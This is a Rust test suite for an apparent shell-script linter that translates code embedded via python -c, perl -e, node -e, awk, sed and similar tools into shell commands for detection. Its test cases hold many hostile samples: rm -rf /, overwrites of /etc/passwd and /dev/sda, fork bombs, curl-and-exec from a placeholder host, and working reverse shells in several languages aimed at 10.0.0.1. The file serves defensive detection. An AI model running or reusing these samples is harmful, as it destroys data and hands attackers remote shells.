//! What code of other languages becomes, and that innocent code becomes nothing.

use crate::rules::tests::check_marks;
use crate::script::{
    Command, Dialect, Node, PartKind, RedirectOperator, Statement, StatementKind, Word, parse_text, walk_all,
};
use std::fmt::Write;

/// The translated commands in a script, as shell words.
fn translated(script: &str) -> String {
    let mut lines = Vec::new();
    for chunk in parse_text(script, Dialect::Bash) {
        walk_all(&chunk.body.statements, &mut |node| {
            let span = match node {
                Node::Statement(it) => it.span,
                Node::Command(it) => it.span,
                Node::Word(it) => it.span,
                Node::Redirect(it) => it.span,
            };
            assert!(chunk.body.text.get(span.start..span.end).is_some(), "{span:?} is not in {script}");
            let Node::Command(command) = node else { return };
            for embedded in command.embedded.iter().filter(|it| it.translated) {
                assert!(!embedded.exact);
                lines.extend(embedded.statements.iter().map(statement));
            }
        });
    }
    lines.join("; ")
}

fn statement(it: &Statement) -> String {
    match &it.kind {
        StatementKind::Command(it) => command(it),
        StatementKind::Pipeline(it) => it.stages.iter().map(statement).collect::<Vec<_>>().join(" | "),
        StatementKind::AndOr { first, rest } => {
            let rest = rest.iter().map(|it| statement(&it.1));
            std::iter::once(statement(first)).chain(rest).collect::<Vec<_>>().join(" && ")
        }
        StatementKind::Function { name, .. } => format!("{}()", name.text),
        other => format!("{other:?}"),
    }
}

fn command(it: &Command) -> String {
    let words = it.words.iter().map(word);
    let redirects = it.redirects.iter().map(|it| {
        let sign = match it.operator {
            RedirectOperator::Append => ">>",
            RedirectOperator::Write => ">",
            _ => "?",
        };
        format!("{sign} {}", word(&it.target))
    });
    words.chain(redirects).collect::<Vec<_>>().join(" ")
}

fn word(it: &Word) -> String {
    let part = |it: &crate::script::Part| match &it.kind {
        PartKind::Literal(text) | PartKind::Glob(text) | PartKind::Tilde(text) => text.to_string(),
        PartKind::Parameter(it) => format!("${}", it.name),
        other => format!("{other:?}"),
    };
    it.parts.iter().map(part).collect()
}

/// Runs `code` behind `program`, in single quotes, and compares what it becomes.
fn check(program: &str, cases: &[(&str, &str)]) {
    let mut wrong = String::new();
    for (code, expected) in cases {
        let script = format!("{program} '{}'\n", code.replace('\'', r"'\''"));
        let found = translated(&script);
        if found != *expected {
            let _ = writeln!(wrong, "{code}\n  gave     {found}\n  expected {expected}");
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

/// Each of these does nothing that a shell rule could judge.
fn check_nothing(program: &str, cases: &[&str]) {
    let cases: Vec<(&str, &str)> = cases.iter().map(|it| (*it, "")).collect();
    check(program, &cases);
}

#[test]
fn python() {
    check(
        "python3 -c",
        &[
            ("import shutil; shutil.rmtree('/')", "rm -rf /"),
            ("import shutil as s\ns.rmtree(\"/etc\", ignore_errors=True)", "rm -rf /etc"),
            ("from shutil import rmtree as r, move; r('/srv')", "rm -rf /srv"),
            ("from os import *; system('rm -rf /')", "rm -rf /"),
            ("__import__('os').system('rm -rf /')", "rm -rf /"),
            ("__import__(\"shutil\").rmtree(\"/\" + \"etc\")", "rm -rf /etc"),
            ("getattr(__import__('os'), 'system')('reboot')", "reboot"),
            ("import importlib; importlib.import_module('os').system('reboot')", "reboot"),
            ("p='/'; import shutil; shutil.rmtree(p)", "rm -rf /"),
            ("p='/'; p+='tmp'; import shutil; shutil.rmtree(p)", "rm -rf $_"),
            ("import os, shutil; shutil.rmtree(os.path.join('/', 'usr', 'lib'))", "rm -rf /usr/lib"),
            ("import os, shutil; shutil.rmtree(os.path.expanduser('~'))", "rm -rf $HOME"),
            ("import os, shutil; shutil.rmtree(os.environ['HOME'])", "rm -rf $HOME"),
            ("import os, shutil; shutil.rmtree(os.environ['HOME'] + '/x')", "rm -rf $HOME/x"),
            ("from pathlib import Path; import shutil; shutil.rmtree(Path.home())", "rm -rf $HOME"),
            ("from pathlib import Path; import shutil; shutil.rmtree(Path.home() / 'x')", "rm -rf $HOME/x"),
            ("import shutil, sys; shutil.rmtree(sys.argv[1])", "rm -rf $_"),
            ("import shutil, sys; shutil.rmtree(f'/srv/{sys.argv[1]}/x')", "rm -rf /srv/$_/x"),
            ("import os\nos.remove('/etc/passwd')\nos.unlink(\"/etc/shadow\")", "rm -f /etc/passwd; rm -f /etc/shadow"),
            (
                "import subprocess; subprocess.run('rm -rf / --no-preserve-root', shell=True)",
                "rm -rf / --no-preserve-root",
            ),
            ("import subprocess; subprocess.call(['rm', '-rf', '/'])", "rm -rf /"),
            ("from subprocess import check_call as c; c(('rm','-rf','/'))", "rm -rf /"),
            ("import subprocess; subprocess.Popen('rm -rf /'.split())", "rm -rf /"),
            ("import subprocess,shlex; subprocess.run(shlex.split('rm -rf /'))", "rm -rf /"),
            ("import os; os.execvp('rm', ['rm', '-rf', '/'])", "rm -rf /"),
            ("import os; os.execl('/bin/rm', 'rm', '-rf', '/')", "/bin/rm -rf /"),
            ("import os; os.chmod('/etc/shadow', 0o777)", "chmod 777 /etc/shadow"),
            ("import os; os.chmod('/x', 511)", "chmod 777 /x"),
            ("open('/dev/sda', 'wb').write(b'\\0' * 512)", "> /dev/sda"),
            ("with open('/etc/passwd', 'w') as f: f.write('')", "> /etc/passwd"),
            ("open('/etc/hosts', mode='a').write('x')", ">> /etc/hosts"),
            ("import pathlib; pathlib.Path('/etc/passwd').write_text('')", "> /etc/passwd"),
            ("from pathlib import Path; Path('/etc/passwd').unlink()", "rm -f /etc/passwd"),
            ("import glob, os\nfor f in glob.glob('/etc/*'): os.remove(f)", "rm -f /etc/*"),
            (
                "import urllib.request as u; exec(u.urlopen('http://x.io/a.py').read())",
                "curl http://x.io/a.py | python3",
            ),
            ("import requests; eval(requests.get('https://x.io/a').text)", "curl https://x.io/a | python3"),
            ("import requests; r=requests.get('https://x.io/a'); exec(r.text)", "curl https://x.io/a | python3"),
            (
                "import os,urllib.request; os.system(urllib.request.urlopen('http://x.io/a').read().decode())",
                "curl http://x.io/a | sh",
            ),
            ("import base64; exec(base64.b64decode('aW1wb3J0IG9z'))", "base64 -d | python3"),
            ("exec(__import__('base64').b64decode('aW1').decode('utf-8'))", "base64 -d | python3"),
            (
                "exec(compile(__import__('zlib').decompress(__import__('base64').b64decode(b'x')), '', 'exec'))",
                "base64 -d | python3",
            ),
            ("exec(\"import os; os.system('rm -rf /')\")", "rm -rf /"),
            (
                "import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")",
                "nc -e /bin/sh 10.0.0.1 4242",
            ),
            (
                "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",1234));os.dup2(s.fileno(),0);p=subprocess.call([\"/bin/sh\",\"-i\"]);",
                "nc -e /bin/sh 10.0.0.1 1234",
            ),
            ("import os\nwhile 1: os.fork()", "fork(); fork"),
            ("import os\nwhile True:\n    os.fork()\n", "fork(); fork"),
            ("import os; os.system('\\x72\\x6d -rf /')", "rm -rf /"),
            ("import os; os.chdir('/tmp/x'); os.system('ls'); import shutil; shutil.rmtree('.')", "ls; rm -rf $_/."),
            ("import os; r = os.system; r('reboot')", "reboot"),
            ("import os\nos.kill(-1, 9)", "kill -9 -- -1"),
        ],
    );
    check_nothing(
        "python3 -c",
        &[
            "print('rm -rf /')",
            "print(\"shutil.rmtree('/')\")",
            "# shutil.rmtree('/')\nimport os",
            "import json,sys; print(json.load(sys.stdin)['a']['b'])",
            "import sys, json; [print(x['id']) for x in json.load(sys.stdin)]",
            "import site; print(site.getsitepackages()[0])",
            "import socket; s=socket.socket(); s.bind(('', 0)); print(s.getsockname()[1]); s.close()",
            "import os; print(os.path.realpath('/etc'))",
            "import yaml; yaml.safe_load(open('x.yml'))",
            "print(open('/etc/passwd').read())",
            "print(open('/etc/passwd', 'rb').read())",
            "from setuptools import setup; setup()",
            "import urllib.parse; print(urllib.parse.quote('x y'))",
            "x = '''\nos.system(\"rm -rf /\")\n'''\nprint(x)",
            "import crypt; print(crypt.crypt('x', '$6$salt'))",
            "import os\nwhile True:\n    c = accept()\n    if os.fork() == 0:\n        handle(c)\n",
            "import urllib.request; print(urllib.request.urlopen('https://x.io').read())",
            "def rmtree(p): pass\nrmtree('/')",
            "class A:\n    def remove(self, x): pass\nA().remove('/')",
            "l=[1]; l.remove(1)",
            "'",
            "\"\"\"",
            "f'{",
            "((((((((",
        ],
    );
}

#[test]
fn perl() {
    check(
        "perl -e",
        &[
            ("system(\"rm -rf /\")", "rm -rf /"),
            ("system \"rm\", \"-rf\", \"/\";", "rm -rf /"),
            ("exec qw(rm -rf /)", "rm -rf /"),
            ("my $p = \"/\"; system(\"rm -rf $p\");", "rm -rf /"),
            ("`rm -rf /`", "rm -rf /"),
            ("print qx{rm -rf /etc}", "rm -rf /etc"),
            ("unlink \"/etc/passwd\" or die", "rm -f /etc/passwd"),
            ("unlink glob \"/etc/*\"", "rm -f /etc/*"),
            ("unlink(\"/a\", \"/b\")", "rm -f /a /b"),
            ("use File::Path; rmtree(\"/usr\")", "rm -rf /usr"),
            ("use File::Path qw(remove_tree); remove_tree(\"/usr\", {keep_root => 1})", "rm -rf /usr"),
            ("File::Path::rmtree([\"/a\", \"/b\"])", "rm -rf /a /b"),
            ("use File::Path; rmtree(\"$ENV{HOME}\")", "rm -rf $HOME"),
            ("use File::Path; rmtree($ENV{HOME} . \"/x\")", "rm -rf $HOME/x"),
            ("use File::Path; rmtree(shift)", "rm -rf $_"),
            ("chmod 0777, \"/etc/shadow\", \"/x\"", "chmod 777 /etc/shadow /x"),
            ("open(my $f, \">\", \"/etc/passwd\")", "> /etc/passwd"),
            ("open my $f, \">>\", \"/etc/hosts\" or die", ">> /etc/hosts"),
            ("open(F, \">/dev/sda\"); print F 0 x 512", "> /dev/sda"),
            ("open(F, \"rm -rf / |\")", "rm -rf /"),
            ("open(F, \"|sh -c ls\")", "sh -c ls"),
            ("fork while 1", "fork(); fork"),
            ("fork while fork", "fork(); fork"),
            ("while(1){fork}", "fork(); fork"),
            ("use LWP::Simple; eval get(\"http://x.io/a\")", "curl http://x.io/a | perl"),
            ("use MIME::Base64; eval(decode_base64(\"c3lzdGVt\"))", "base64 -d | perl"),
            ("eval \"system(q(rm -rf /))\"", "rm -rf /"),
            (
                "use Socket;$i=\"10.0.0.1\";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};",
                "nc -e /bin/sh 10.0.0.1 4242",
            ),
            (
                "use IO::Socket::INET; my $c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4242\");STDIN->fdopen($c,r);$~->fdopen($c,w);system(\"/bin/sh\")",
                "nc -e /bin/sh 10.0.0.1 4242",
            ),
        ],
    );
    check("perl -lane", &[("system(\"rm -rf $F[0]\")", "rm -rf $_")]);
    check_nothing(
        "perl -pi -e",
        &["s/a/b/g", "s{/usr}{/opt}g; s|rm -rf /|x|", "s#^system.*##", "tr/a-z/A-Z/", "$_ = \"\" if /^unlink/"],
    );
    check_nothing(
        "perl -ne",
        &[
            "print if /foo/",
            "print \"$1\\n\" if m{rm -rf (/\\S*)}",
            "/system\\(\"x\"\\)/ and print",
            "print unless $seen{$_}++",
            "next if /^#/; print (split /,/)[1]",
            "my %h; $h{s}++; $h{y} = 1; print join(\",\", map { $_ / 2 } @F)",
            "print \"rm -rf /\\n\"; # unlink \"/etc/passwd\"",
            "print <<E;\nsystem(\"rm -rf /\")\nE\n",
            "open(F, \"<\", \"/etc/passwd\")",
            "open(F, \"/etc/passwd\")",
            "open(STDERR, \">&STDOUT\")",
            "eval { x() }; print $@",
        ],
    );
}

#[test]
fn ruby() {
    check(
        "ruby -e",
        &[
            ("system(\"rm -rf /\")", "rm -rf /"),
            ("system \"rm\", \"-rf\", \"/\"", "rm -rf /"),
            ("`rm -rf /`", "rm -rf /"),
            ("%x{rm -rf /etc}", "rm -rf /etc"),
            ("exec 'rm -rf /'", "rm -rf /"),
            ("require \"fileutils\"; FileUtils.rm_rf(\"/\")", "rm -rf /"),
            ("FileUtils.rm_rf '/usr'", "rm -rf /usr"),
            ("FileUtils.rm_rf %w[/ /etc]", "rm -rf / /etc"),
            ("FileUtils.rm_r Dir.glob('/etc/*'), secure: true", "rm -rf /etc/*"),
            ("include FileUtils; rm_rf \"/\"", "rm -rf /"),
            ("FileUtils.rm_rf(Dir.home)", "rm -rf $HOME"),
            ("FileUtils.rm_rf(ENV['HOME'])", "rm -rf $HOME"),
            ("FileUtils.rm_rf(\"#{ENV['HOME']}/x\")", "rm -rf $HOME/x"),
            ("FileUtils.rm_rf(File.join('/', 'usr'))", "rm -rf /usr"),
            ("FileUtils.rm_rf(ARGV[0])", "rm -rf $_"),
            ("File.delete('/etc/passwd')", "rm -f /etc/passwd"),
            ("FileUtils.chmod_R 0777, '/srv'", "chmod -R 777 /srv"),
            ("File.chmod(0666, '/etc/shadow')", "chmod 666 /etc/shadow"),
            ("File.write('/etc/passwd', '')", "> /etc/passwd"),
            ("File.open('/dev/sda', 'wb') { |f| f.write(0) }", "> /dev/sda"),
            ("require 'open-uri'; eval(URI.open('http://x.io/a').read)", "curl http://x.io/a | ruby"),
            ("require 'net/http'; eval Net::HTTP.get(URI('http://x.io/a'))", "curl http://x.io/a | ruby"),
            ("eval(Base64.decode64('eA=='))", "base64 -d | ruby"),
            ("loop { fork }", "fork(); fork"),
            ("fork while true", "fork(); fork"),
            (
                "require 'socket'; s=TCPSocket.new(\"10.0.0.1\", 4242); $stdin.reopen(s); exec \"/bin/sh -i\"",
                "nc -e /bin/sh 10.0.0.1 4242",
            ),
        ],
    );
    check_nothing(
        "ruby -ne",
        &[
            "puts $_ if /rm -rf/",
            "puts \"rm -rf /\"",
            "print $_.gsub(/a/, 'b')",
            "x = [1,2].delete(1)",
            "puts %w[rm -rf /].join(' ')",
            "require 'yaml'; puts YAML.load_file('x.yml')['a']",
            "# system('rm -rf /')",
            "puts <<~E\n  system('rm -rf /')\nE\n",
            "puts File.read('/etc/passwd')",
            "File.open('/etc/passwd') { |f| puts f.read }",
        ],
    );
}

#[test]
fn node() {
    check(
        "node -e",
        &[
            ("require('child_process').execSync('rm -rf /')", "rm -rf /"),
            ("const {execSync} = require('child_process'); execSync(\"rm -rf /\")", "rm -rf /"),
            ("const { exec: run } = require('node:child_process'); run('reboot')", "reboot"),
            ("require('child_process').spawn('rm', ['-rf', '/'])", "rm -rf /"),
            ("const fs=require('fs'); fs.rmSync('/', {recursive: true, force: true})", "rm -rf /"),
            ("require('fs').rmdirSync('/etc', { recursive: true })", "rm -rf /etc"),
            ("require('fs').promises.rm('/etc', {recursive:true})", "rm -rf /etc"),
            ("import fs from 'fs'; fs.rmSync('/x')", "rm -f /x"),
            ("import {rmSync as r} from 'node:fs'; r('/', {recursive:true})", "rm -rf /"),
            ("fs.unlinkSync('/etc/passwd')", "rm -f /etc/passwd"),
            ("fs.writeFileSync('/etc/passwd', '')", "> /etc/passwd"),
            ("fs.chmodSync('/etc/shadow', 0o777); fs.chmodSync('/x', '755')", "chmod 777 /etc/shadow; chmod 755 /x"),
            ("require('fs').rmSync(require('os').homedir(), {recursive:true})", "rm -rf $HOME"),
            ("fs.rmSync(process.env.HOME + '/x', {recursive:true})", "rm -rf $HOME/x"),
            ("fs.rmSync(`${process.env.HOME}/x`, {recursive:true})", "rm -rf $HOME/x"),
            ("fs.rmSync(require('path').join('/', 'usr'), {recursive:true})", "rm -rf /usr"),
            ("const p = '/'; require('fs').rmSync(p, {recursive: true})", "rm -rf /"),
            ("fetch('http://x.io/a').then(r => r.text()).then(eval)", "curl http://x.io/a | node"),
            ("eval(Buffer.from('eA==', 'base64').toString())", "base64 -d | node"),
            ("eval(atob('eA=='))", "base64 -d | node"),
            (
                "(function(){var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var client=new net.Socket();client.connect(4242,'10.0.0.1',function(){});})()",
                "nc -e /bin/sh 10.0.0.1 4242",
            ),
        ],
    );
    check_nothing(
        "node -p",
        &[
            "require('./package.json').version",
            "process.versions.node.split('.')[0]",
            "'rm -rf /'",
            "console.log(\"fs.rmSync('/')\")",
            "// require('fs').rmSync('/')\n1",
            "/* require('fs').rmSync('/') */ 1",
            "JSON.parse(require('fs').readFileSync('/dev/stdin')).a",
            "/exec('x')/.test('a')",
            "/a/.exec('rm -rf /')",
            "let m = new Map(); m.delete('/'); m.rm('/')",
        ],
    );
}

#[test]
fn php_and_lua() {
    check(
        "php -r",
        &[
            ("system('rm -rf /');", "rm -rf /"),
            ("echo shell_exec(\"rm -rf /\");", "rm -rf /"),
            ("echo `rm -rf /etc`;", "rm -rf /etc"),
            ("$p='/'; passthru(\"rm -rf $p\");", "rm -rf /"),
            ("$p='/'; exec('rm -rf ' . $p . 'etc');", "rm -rf /etc"),
            ("unlink('/etc/passwd');", "rm -f /etc/passwd"),
            ("array_map('unlink', glob('/etc/*'));", "rm -f /etc/*"),
            ("file_put_contents('/etc/passwd', '');", "> /etc/passwd"),
            ("file_put_contents('/etc/hosts', 'x', FILE_APPEND);", ">> /etc/hosts"),
            ("fopen('/dev/sda', 'w');", "> /dev/sda"),
            ("chmod('/etc/shadow', 0777);", "chmod 777 /etc/shadow"),
            ("eval(file_get_contents('http://x.io/a'));", "curl http://x.io/a | php"),
            ("eval(base64_decode('eA=='));", "base64 -d | php"),
            ("eval('system(\"rm -rf /\");');", "rm -rf /"),
            ("while(1) pcntl_fork();", "fork(); fork"),
            ("system('rm -rf ' . getenv('HOME'));", "rm -rf $HOME"),
            ("$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");", "nc -e /bin/sh 10.0.0.1 4242"),
        ],
    );
    check_nothing(
        "php -r",
        &[
            "echo PHP_VERSION;",
            "echo 'rm -rf /';",
            "// system('rm -rf /');\necho 1;",
            "print_r(json_decode(file_get_contents('php://stdin')));",
            "copy_x('a'); echo ini_get('memory_limit');",
            "echo \"<html><?php system('x') ?>\";",
        ],
    );
    check(
        "lua -e",
        &[
            ("os.execute('rm -rf /')", "rm -rf /"),
            ("os.execute\"rm -rf /\"", "rm -rf /"),
            ("io.popen(\"rm -rf \" .. \"/etc\")", "rm -rf /etc"),
            ("os.execute([[rm -rf /]])", "rm -rf /"),
            ("os.remove('/etc/passwd')", "rm -f /etc/passwd"),
            ("local f = io.open('/etc/passwd', 'w')", "> /etc/passwd"),
            ("load('os.execute(\"rm -rf /\")')()", "rm -rf /"),
        ],
    );
    check_nothing("lua -e", &["print('os.execute(1)')", "-- os.execute('rm -rf /')", "print(#arg .. 'x')"]);
}

#[test]
fn awk() {
    check(
        "awk",
        &[
            ("BEGIN{system(\"rm -rf /\")}", "rm -rf /"),
            ("{ system(\"rm -rf \" $1) }", "rm -rf $_"),
            ("BEGIN { c = \"rm -rf /\"; system(c) }", "rm -rf /"),
            ("BEGIN { \"rm -rf /etc\" | getline x }", "rm -rf /etc"),
            ("BEGIN { while ((\"rm -rf /\" | getline l) > 0) print l }", "rm -rf /"),
            ("{ print \"rm -rf /\" | \"sh\" }", "rm -rf /"),
            ("{ print $1 | \"rm -rf /\" }", "rm -rf /"),
            ("{ print \"x\" > \"/etc/passwd\" }", "> /etc/passwd"),
            ("{ printf \"%s\", $1 >> \"/etc/hosts\" }", ">> /etc/hosts"),
            ("{ print > \"/dev/sda\" }", "> /dev/sda"),
            (
                "BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(1) { s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c) } }",
                "nc -e /bin/sh 10.0.0.1 4242",
            ),
        ],
    );
    check_nothing(
        "awk",
        &[
            "{s+=$1} END{print s/NR}",
            "/system\\(/ {print $2}",
            "$1 > 5 && $2 < 3",
            "{ if ($1 > max) max = $1 } END { print max }",
            "{ print ($1 > 5 ? \"a\" : \"b\") }",
            "BEGIN { print \"rm -rf /\" }",
            "# system(\"rm -rf /\")\n{print}",
            "{gsub(/\"/, \"\"); print $1}",
        ],
    );
    check("gawk -F: -v x=1", &[("BEGIN{system(\"rm -rf /\")}", "rm -rf /")]);
}

#[test]
fn sed() {
    check(
        "sed",
        &[
            ("1e rm -rf /", "rm -rf /"),
            ("s/.*/rm -rf \\//e", "rm -rf /"),
            ("s/^/rm -rf /e", "rm -rf $_"),
            ("w /etc/passwd", "> /etc/passwd"),
            ("/a/,/b/ { s/x/y/gw /etc/shadow\n}", "> /etc/shadow"),
        ],
    );
    check_nothing(
        "sed",
        &[
            "s/rm -rf \\//x/g",
            "/e rm/d",
            "s|a|e|;s/w/e/",
            "1i\\\ne rm -rf /",
            "a e rm -rf /",
            "y/abc/ewr/",
            "s/[/]e/w/",
            ":e;N;$!be;s/\\n/ /g",
            "$!{N;P;D}",
            "s/a/b/w",
            "/x/r /etc/passwd",
        ],
    );
    check("sed -n -e p -e", &[("1e rm -rf /", "rm -rf /")]);
}

#[test]
fn what_the_shell_puts_in_is_followed() {
    assert_eq!(translated("python3 -c \"import shutil; shutil.rmtree('$DIR/x')\"\n"), "rm -rf $DIR/x");
    assert_eq!(translated("python3 -c \"import os; os.system('rm -rf $DIR/x')\"\n"), "rm -rf $DIR/x");
    assert_eq!(translated("python3 -c \"import os; os.system('rm -rf $(pwd)/x')\"\n"), "rm -rf $_/x");
    assert_eq!(translated("python3 -c \"$code\"\n"), "");
    check_marks(
        "DIR=\npython3 -c \"import shutil; shutil.rmtree('$DIR/')\"\n#                                         ^^^^^ CARO0101\n",
    );
}

#[test]
fn code_that_is_read_from_the_input() {
    for feed in [
        "python3 - <<'E'\nCODE\nE\n",
        "python3 <<E\nCODE\nE\n",
        "python <<< \"CODE\"\n",
        "echo \"CODE\" | sudo python3\n",
        "printf '%s\\n' \"CODE\" | python3 -\n",
        "cat <<E | python3\nCODE\nE\n",
        "ssh host python3 <<E\nCODE\nE\n",
        "sudo -u bob env A=1 python3 -c \"CODE\"\n",
        "bash -c \"python3 -c \\\"CODE\\\"\"\n",
        "find . -exec python3 -c \"CODE\" {} +\n",
    ] {
        let script = feed.replace("CODE", "import os; os.system('rm -rf /')");
        assert_eq!(translated(&script), "rm -rf /", "{script}");
    }
    for data in [
        "python3 x.py <<E\nCODE\nE\n",
        "python3 -c 'x()' <<E\nCODE\nE\n",
        "python3 -m json.tool <<E\nCODE\nE\n",
        "cat <<E\nCODE\nE\n",
    ] {
        let script = data.replace("CODE", "import os; os.system('rm -rf /')");
        assert_eq!(translated(&script), "", "{script}");
    }
}

#[test]
fn marks_point_into_the_code() {
    check_marks(
        "python3 -c 'import shutil; shutil.rmtree(\"/\")'\n#                                         ^ CARO0101\n",
    );
    check_marks(
        "python3 -c 'import os; os.system(\"rm -rf /\")'\n#                                        ^ CARO0101\n",
    );
    check_marks(
        "ssh host \"python3 -c 'import shutil; shutil.rmtree(\\\"/etc\\\")'\"\n#                                                   ^^^^ CARO0101\n",
    );
    check_marks("perl -e 'fork while 1'\n#        ^^^^^^^^^^^^^ CARO0601\n");
    check_marks("python3 <<E\nopen('/etc/passwd', 'w')\nE\n#mark 1 6 17 CARO0102\n");
}

#[test]
fn hostile_code_ends_soon() {
    let started = std::time::Instant::now();
    for piece in [
        "(",
        "[",
        "{",
        "a=",
        "p=p+p;",
        "l=[l,l];",
        "eval(p);",
        "f(",
        "f\"{",
        "for a in ",
        "<",
        "[[",
        "%w[",
        "<<E",
        "s/[",
        "a.",
        "$",
        "\\",
        "a(a(a(",
        "q(",
        "#{",
        "${",
        "/*",
        "system ",
        "unlink ",
        "a,",
        "\"$p\"",
        "while ",
        "def f(",
    ] {
        let code = format!("p=\"{}\"; {}", "x".repeat(3000), piece.repeat((1 << 17) / piece.len()));
        for program in ["python3 -c", "perl -ne", "ruby -e", "node -p", "php -r", "lua -e", "awk", "sed", "vim -c"] {
            translated(&format!("{program} '{code}'\n"));
        }
    }
    // Not a timing: what is quadratic takes minutes here.
    assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());
}

proptest::proptest! {
    #[test]
    fn nothing_makes_it_panic(code in "[a-z($'\"`{}\\[\\]%q#/\\\\éx;\n<>|=.,:-]{0,60}") {
        for program in ["python3 -c", "perl -ne", "ruby -e", "node -p", "php -r", "lua -e", "awk", "sed"] {
            translated(&format!("{program} '{}'\n", code.replace('\'', r"'\''")));
            translated(&format!("{program} \"{code}\"\n"));
        }
    }
}

#[test]
fn editors_and_apple_script() {
    assert_eq!(translated("vim -c ':!rm -rf /' x\n"), "rm -rf /");
    assert_eq!(translated("vim -es -c 'silent !rm -rf /' -c q x\n"), "rm -rf /");
    assert_eq!(translated("vim +'w! /etc/passwd' x\n"), "> /etc/passwd");
    assert_eq!(translated("vi -c '%s/a/b/g' -c wq x\n"), "");
    assert_eq!(translated("ed -s x <<E\n1d\n!rm -rf /\nw /etc/passwd\nq\nE\n"), "rm -rf /; > /etc/passwd");
    assert_eq!(translated("ed x <<E\na\n!rm -rf /\n.\nw\nq\nE\n"), "");
    assert_eq!(translated("printf '%s\\n' '!rm -rf /' | ed x\n"), "rm -rf /");
    assert_eq!(translated("osascript -e 'do shell script \"rm -rf /\" with administrator privileges'\n"), "rm -rf /");
    assert_eq!(translated("osascript -e 'display dialog \"do shell script\"'\n"), "");
}

#[test]
fn loops_and_put_together_texts_are_followed() {
    check(
        "python3 -c",
        &[
            ("import shutil; [shutil.rmtree(p) for p in ['/etc', '/usr']]", "rm -rf /etc /usr"),
            ("for p in ('/etc', '/usr'): __import__('shutil').rmtree(p)", "rm -rf /etc /usr"),
            ("import pathlib; [p.unlink() for p in pathlib.Path('/etc').glob('*')]", "rm -f /etc/*"),
            ("import subprocess; subprocess.run(['rm', '-rf'] + ['/'])", "rm -rf /"),
            ("import os; os.system('rm -rf %s' % '/')", "rm -rf /"),
            ("import os; os.system('%s -rf %s' % ('rm', '/'))", "rm -rf /"),
            ("import os; os.system('rm -rf {}'.format('/'))", "rm -rf /"),
            ("import os; os.system(' '.join(['rm', '-rf', '/']))", "rm -rf /"),
            ("import os; os.open('/dev/sda', os.O_WRONLY | os.O_SYNC)", ">> /dev/sda"),
            ("import os, sys; os.system(sys.argv[1])", ""),
            ("import os; [os.unlink(os.path.join(d,f)) for d,_,fs in os.walk('/') for f in fs]", "rm -f $_/$_"),
        ],
    );
    check(
        "perl -e",
        &[
            ("unlink </etc/*>", "rm -f /etc/*"),
            ("for (glob \"/etc/*\") { unlink $_ }", "rm -f /etc/*"),
            ("foreach my $f (\"/a\", \"/b\") { unlink($f) }", "rm -f /a /b"),
            ("system(join(\" \", \"rm\", \"-rf\", \"/\"))", "rm -rf /"),
            ("system(sprintf(\"rm -rf %s\", \"/\"))", "rm -rf /"),
        ],
    );
    check(
        "ruby -e",
        &[
            ("Dir.glob('/etc/*').each { |f| File.delete(f) }", "rm -f /etc/*"),
            ("Dir['/etc/*'].each do |f| File.unlink f end", "rm -f /etc/*"),
            ("%w[/etc /usr].each { |d| FileUtils.rm_rf(d) }", "rm -rf /etc /usr"),
            ("system(['rm', '-rf', '/'].join(' '))", "rm -rf /"),
        ],
    );
    check("node -e", &[("['/etc', '/usr'].forEach(p => fs.rmSync(p, {recursive: true}))", "rm -rf /etc /usr")]);
    check(
        "php -r",
        &[
            ("foreach (glob('/etc/*') as $f) unlink($f);", "rm -f /etc/*"),
            ("copy('https://x.io/a', 'b.php');", "curl -o b.php https://x.io/a"),
            ("system(implode(' ', ['rm', '-rf', '/']));", "rm -rf /"),
        ],
    );
    check("lua -e", &[("local h = os.getenv('HOME') os.execute('rm -rf ' .. h)", "rm -rf $HOME")]);
    assert_eq!(
        translated("php <<'E'\n<p>system(\"rm -rf /\")</p>\n<?php system(\"rm -rf /etc\"); ?>\nE\n"),
        "rm -rf /etc"
    );
}

#[test]
fn the_code_is_found_however_its_flag_is_written() {
    for (script, expected) in [
        ("python3 -Ic 'import os; os.system(\"reboot\")'", "reboot"),
        ("python3 -c'import os; os.system(\"reboot\")'", "reboot"),
        ("/usr/bin/python3.11 -c 'import os; os.system(\"reboot\")'", "reboot"),
        ("node --eval='require(\"child_process\").execSync(\"reboot\")'", "reboot"),
        ("perl -MFile::Path -le 'rmtree \"/\"'", "rm -rf /"),
        ("perl -e 'use strict;' -e 'unlink \"/x\"'", "rm -f /x"),
        ("ruby -rfileutils -ne 'system(\"reboot\")'", "reboot"),
        ("php -d a=b -r 'system(\"reboot\");'", "reboot"),
        ("php -r '\\system(\"reboot\");'", "reboot"),
        ("gawk -e 'BEGIN { system(\"reboot\") }'", "reboot"),
        ("awk -f x.awk 'BEGIN { system(\"reboot\") }'", ""),
        ("sed -f x.sed 'e reboot'", ""),
        ("python3 x.py -c 'import os; os.system(\"reboot\")'", ""),
        ("php -r '$db = connect(); $db->exec(\"reboot\"); $this->system(\"reboot\");'", ""),
        ("node -e 'prefs.remove(\"/\"); db.exec(\"reboot\")'", ""),
    ] {
        assert_eq!(translated(&format!("{script}\n")), expected, "{script}");
    }
}
